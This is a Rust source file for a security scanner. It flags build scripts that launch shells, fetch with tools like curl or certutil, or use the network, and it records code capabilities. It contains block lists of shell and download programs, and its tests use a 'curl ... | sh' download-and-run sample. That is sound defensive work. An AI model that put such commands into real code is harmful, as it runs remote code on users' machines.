//! Rust: what a build script does while the package is only built, commands that are given to a shell, and what
//! the code is able to do.

use syn::spanned::Spanned;
use syn::visit::{self, Visit};

use super::nesting::{Elements, STACK, is_too_deep};
use super::shell::judge_script;
use super::{Analyser, Input, Judged, Kind, Terms};
use crate::model::{Confidence, Severity, SkipReason};

/// Larger files are not parsed.
const MAX_BYTES: usize = 4 << 20;

/// Programs that run a text as commands.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "cmd", "powershell", "pwsh"];

/// Programs that fetch.
const FETCHERS: &[&str] = &["curl", "wget", "bitsadmin", "certutil"];

/// First parts of paths that reach the network.
const NETWORK: &[&str] =
    &["reqwest", "ureq", "hyper", "curl", "isahc", "attohttpc", "minreq", "TcpStream", "UdpSocket"];

pub(super) struct Rust;

impl Analyser for Rust {
    fn id(&self) -> &'static str {
        "rust"
    }

    fn accepts(&self, input: &Input<'_>) -> bool {
        input.kind == Kind::Rust && input.text.is_some()
    }

    fn analyse(&self, input: &Input<'_>, _: Terms<'_>) -> Judged {
        let text = input.text.unwrap_or_default();
        let mut judged = Judged::default();
        if text.len() > MAX_BYTES || is_too_deep(text, Elements::None) {
            judged.gaps.push((SkipReason::LimitReached, "it is too large or nests too deeply to be parsed".to_owned()));
            return judged;
        }
        let build_script = input.name() == "build.rs";
        stacker::grow(STACK, || match syn::parse_file(text) {
            Ok(file) => Walk { build_script, judged: &mut judged }.visit_file(&file),
            Err(error) => judged.gaps.push((SkipReason::Unparsable, error.to_string())),
        });
        judged
    }
}

struct Walk<'a> {
    build_script: bool,
    judged: &'a mut Judged,
}

impl Walk<'_> {
    /// A program that is started, and the texts that it is given.
    fn command(&mut self, program: &str, span: proc_macro2::Span) {
        self.judged.able("system_execution", span.byte_range().start);
        let name = program.rsplit(['/', '\\']).next().unwrap_or(program).trim_end_matches(".exe");
        let doubtful = SHELLS.contains(&name) || FETCHERS.contains(&name);
        if self.build_script && doubtful {
            let message = format!("building this package starts `{name}`, on every machine that only builds it");
            self.judged.see("install-hook", span.byte_range(), Severity::High, Confidence::Medium, message);
        }
    }

    fn path(&mut self, path: &syn::Path) {
        let mut words = path.segments.iter().map(|part| part.ident.to_string());
        let (first, rest) = (words.next().unwrap_or_default(), words.collect::<Vec<_>>());
        let named = |name: &str| first == name || rest.iter().any(|word| word == name);
        if (NETWORK.contains(&first.as_str()) && !rest.is_empty()) || named("TcpStream") || named("UdpSocket") {
            self.judged.able("network_access", path.span().byte_range().start);
            if self.build_script {
                let message = "building this package uses the network";
                let range = path.span().byte_range();
                self.judged.see("install-hook", range, Severity::High, Confidence::Medium, message);
            }
        }
    }
}

/// The text of a literal, where the expression is one.
fn literal(expression: &syn::Expr) -> Option<&syn::LitStr> {
    match expression {
        syn::Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(text), .. }) => Some(text),
        syn::Expr::Reference(reference) => literal(&reference.expr),
        _ => None,
    }
}

impl<'ast> Visit<'ast> for Walk<'_> {
    fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
        if let syn::Expr::Path(path) = &*call.func {
            let words: Vec<String> = path.path.segments.iter().map(|part| part.ident.to_string()).collect();
            if words.ends_with(&["Command".to_owned(), "new".to_owned()]) {
                let program = call.args.first().and_then(literal);
                self.command(&program.map(syn::LitStr::value).unwrap_or_default(), call.span());
            }
        }
        visit::visit_expr_call(self, call);
    }

    fn visit_expr_method_call(&mut self, call: &'ast syn::ExprMethodCall) {
        if call.method == "arg" || call.method == "args" {
            let mut texts: Vec<&syn::LitStr> = call.args.iter().filter_map(literal).collect();
            for argument in &call.args {
                let argument = if let syn::Expr::Reference(reference) = argument { &reference.expr } else { argument };
                if let syn::Expr::Array(array) = argument {
                    texts.extend(array.elems.iter().filter_map(literal));
                }
            }
            for text in texts.iter().filter(|text| text.value().contains(' ')) {
                // Past the quote. Escapes move what follows them by a few bytes, never out of the literal.
                judge_script(&text.value(), text.span().byte_range().start + 1, self.judged);
            }
        }
        visit::visit_expr_method_call(self, call);
    }

    fn visit_expr_unsafe(&mut self, block: &'ast syn::ExprUnsafe) {
        self.judged.able("memory_access", block.span().byte_range().start);
        visit::visit_expr_unsafe(self, block);
    }

    fn visit_path(&mut self, path: &'ast syn::Path) {
        self.path(path);
        visit::visit_path(self, path);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::rules::RuleSet;

    fn judged(path: &str, text: &str) -> Judged {
        let rules = RuleSet::standard();
        let input = Input { path, bytes: text.as_bytes(), text: Some(text), kind: Kind::Rust };
        Rust.analyse(
            &input,
            Terms { limits: super::super::Limits::default(), rules: &rules, beside: &Default::default() },
        )
    }

    fn rules(path: &str, text: &str) -> Vec<&'static str> {
        judged(path, text).observations.iter().map(|observation| observation.rule).collect()
    }

    #[test]
    fn a_build_script_that_fetches_or_starts_a_shell_is_told() {
        let shell =
            r#"fn main() { std::process::Command::new("/bin/sh").arg("-c").arg("make all").status().unwrap(); }"#;
        assert_eq!(rules("build.rs", shell), ["install-hook"]);
        assert_eq!(rules("src/main.rs", shell), [""; 0]);
        let fetch = r#"fn main() { let text = ureq::get("https://example.org/x").call(); }"#;
        assert_eq!(rules("crate/build.rs", fetch), ["install-hook"]);
        let honest = r#"use std::process::Command;
            fn main() { println!("cargo:rerun-if-changed=a.c"); Command::new("rustc").arg("--version").output(); }"#;
        assert_eq!(rules("build.rs", honest), [""; 0]);
        assert!(judged("build.rs", honest).capabilities.contains_key("system_execution"));
    }

    #[test]
    fn what_a_shell_is_given_is_judged_as_a_script() {
        let text = format!(
            r#"fn go() {{ Command::new("bash").args(["-c", "{} https://example.org/a.sh | sh"]).spawn(); }}"#,
            "curl -s"
        );
        assert_eq!(rules("src/lib.rs", &text), ["download-and-run"]);
    }

    /// As deep as is let through, and deeper. It is the stack that would fail this test, in the parser, in the
    /// walk or when the tree is dropped.
    #[test]
    fn code_that_nests_without_end_is_parsed_or_refused() {
        for (prefix, unit, suffix) in [
            ("fn f() { a", ".b", "; }"),
            ("fn f() { a", ".b()", "; }"),
            ("fn f() { a = ", "a=", "a; }"),
            ("fn f() { let a = ", "! ", "a; }"),
            ("fn f() { let a = ", "&mut ", "a; }"),
            ("fn f() { ", "return ", "a; }"),
            ("type A = ", "A<", "A;"),
            ("type A = ", "A<A,", "A;"),
            ("type A = ", "fn()->", "A;"),
            ("fn f() { if a {} ", "else if a {} ", "}"),
            ("fn f() { a", "+a", "; }"),
            ("fn f() { a", "+{}", "; }"),
        ] {
            for count in [900, 9_900, 16_000, 24_000, 49_000, 500_000] {
                let text = format!("{prefix}{}{suffix}", unit.repeat(count));
                let refused = judged("src/lib.rs", &text).gaps.iter().any(|gap| gap.0 == SkipReason::LimitReached);
                assert!(refused || count < 500_000, "{unit}");
            }
        }
    }

    #[test]
    fn what_does_not_parse_is_a_gap() {
        assert_eq!(judged("a.rs", "fn (").gaps.len(), 1);
    }
}
